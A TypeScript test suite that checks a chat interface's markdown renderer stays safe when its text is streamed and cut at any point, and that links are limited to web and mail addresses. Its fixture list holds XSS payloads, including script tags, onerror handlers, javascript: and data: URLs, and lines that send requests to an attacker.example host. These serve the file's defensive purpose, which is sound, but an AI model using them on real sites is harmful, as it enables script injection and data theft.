/** Model text as elements: whatever is written, and wherever the stream is cut, only harmless elements come of it. */
import assert from "node:assert/strict";
import fc from "fast-check";
import { type ComponentChildren, Fragment, isValidElement, type VNode } from "preact";

// What the modules of a page ask for as they load.
Reflect.set(globalThis, "matchMedia", () => ({ matches: false, addEventListener: () => {} }));
Reflect.set(globalThis, "document", {
  documentElement: { dataset: {}, setAttribute: () => {}, removeAttribute: () => {} },
});
const { Code } = await import("../../../ui/message/code.tsx");
const { closedUpTo, RichText, safeLink } = await import("../../../ui/message/rich_text.tsx");

const ELEMENTS = new Set(
  "div p h3 h4 h5 h6 ul ol li blockquote table thead tbody tr th td em strong s a small span code br hr"
    .split(" "),
);
/** What an element may have beside its children. */
const PROPS: Readonly<Record<string, readonly string[]>> = {
  a: ["href", "target", "rel", "title"],
  div: ["class"],
  small: ["class", "dir"],
  ol: ["start"],
};

/** Every element of a tree, components carried out; code blocks stay as they are, their text is never markup. */
function* elements(node: ComponentChildren): Generator<VNode<Record<string, unknown>>> {
  if (Array.isArray(node)) { for (const child of node) yield* elements(child); }
  if (!isValidElement(node)) return;
  const { type, props } = node as VNode<Record<string, unknown>>;
  if (type === Code) return void assert.equal(typeof props["text"], "string");
  if (typeof type === "function" && type !== Fragment) {
    // Components of this file are plain functions of their props.
    return yield* elements((type as (props: unknown) => ComponentChildren)(props));
  }
  if (type !== Fragment) yield node as VNode<Record<string, unknown>>;
  yield* elements(props["children"] as ComponentChildren);
}

function check(text: string, writing: boolean): void {
  for (const { type, props } of elements(<RichText text={text} writing={writing} />)) {
    const where = `${JSON.stringify(text)} made <${String(type)}>`;
    assert.ok(typeof type === "string" && ELEMENTS.has(type), where);
    for (const [name, value] of Object.entries(props)) {
      if (name === "children" || value === null) continue;
      assert.ok(PROPS[type]?.includes(name), `${where} with ${name}`);
      if (name !== "href") continue;
      assert.match(String(value), /^(https?:\/\/|mailto:)/, where);
      assert.equal(props["rel"], "noopener noreferrer");
    }
  }
}

Deno.test("the elements of a text are all seen, those of components too", () => {
  const text =
    "# One\n\n**two** [three](https://a.example) ![four](https://b.example/x.png)\n\n- `five`\n\n| a |\n|---|\n| b |";
  const found = [...elements(<RichText text={text} />)].map(({ type }) => type);
  for (const tag of ["h3", "p", "strong", "a", "small", "ul", "li", "code", "table", "td"]) {
    assert.ok(found.includes(tag), tag);
  }
  assert.equal(found.filter((tag) => tag === "a").length, 2, "a picture is a link to it");
  assert.throws(() => [...elements(<Code text={7 as unknown as string} language="" closed />)]);
});

const ATTACKS = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  "[a](javascript:alert(1))",
  "[a](JaVa\tScRiPt:alert(1) 'x')",
  "[a](&#106;avascript:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](vbscript:x) <javascript:alert(1)> <https://ok.example>",
  "![p](https://attacker.example/leak?q=1) ![p](javascript:alert(1))",
  "[r]: javascript:alert(1)\n\n[r] ![r]",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
  "1. <iframe srcdoc='<script>'>\n2. `<b>`\n\n```html\n<script>alert(1)</script>\n```",
  "> <form action=https://attacker.example>\n> <style>@import 'x'</style>",
  "<a href='https://attacker.example' ping='https://attacker.example'>x</a>",
  "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
  "[click](file:///etc/passwd) [click](//attacker.example/x) [click](/api/conversations)",
  "[![pixel](https://attacker.example/a.png)](javascript:alert(1))",
  '``` "><script>alert(1)</script>\nx\n```',
  "\u202e<script>\u2066alert(1)\u2069</script> \u0000<scr\u0000ipt>",
  "&lt;script&gt;alert(1)&lt;/script&gt; <!--[if IE]><script>alert(1)</script><![endif]-->",
];

// Shows P25, S0-78; CVE-2026-32626, CVE-2026-70492, CVE-2026-109288, CVE-2025-59417.
Deno.test("no attack makes an element or an attribute that could run or fetch, at any place where the stream is cut", () => {
  for (const attack of ATTACKS) {
    const text = `Well.\n\n${attack}\n\nDone.`;
    for (let cut = 0; cut <= text.length; cut++) check(text.slice(0, cut), true);
    check(text, false);
  }
});

// Shows P25, S0-78.
Deno.test("nor does any mixture of pieces of markdown and markup", () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ..."<,>,[,],(,),!,`,```\n,\n,\n\n,*,_,~,|,---|,#, ,\\,&lt;,&#x6a;,javascript:,data:,https://a.example,onerror=,<img src=,<a href=,<!--,-->,]]>,'"
        .split(","),
      ...ATTACKS,
    ),
    fc.string({ maxLength: 6 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), fc.boolean(), (pieces, writing) => {
      check(pieces.join(""), writing);
    }),
    { numRuns: 2_000 },
  );
});

// Shows P25.
Deno.test("a link leads to the web or to a mailbox, or it is none", () => {
  for (const good of ["https://a.example/b?c#d", "HTTP://a.example", "mailto:ann@example.org"]) {
    assert.ok(safeLink(good), good);
  }
  for (
    const bad of [
      "javascript:alert(1)",
      " javascript:x",
      "data:,x",
      "file:///etc",
      "blob:x",
      "/here",
      "",
      null,
      7,
    ]
  ) {
    assert.equal(safeLink(bad), null, String(bad));
  }
});

Deno.test("what is closed stays as it is while text comes in: no word is lost or moves between the parts", () => {
  const line = fc.constantFrom("word", "", "```", "~~~", "- item", "| a |", "> quote", "1. one", "    code");
  fc.assert(fc.property(fc.array(line, { maxLength: 20 }), (lines) => {
    const text = lines.join("\n");
    let end = 0;
    for (let cut = 0; cut <= text.length; cut++) {
      const now = closedUpTo(text.slice(0, cut));
      assert.ok(now >= end && now <= cut, `${JSON.stringify(text.slice(0, cut))}: ${end} became ${now}`);
      end = now;
    }
  }));
});
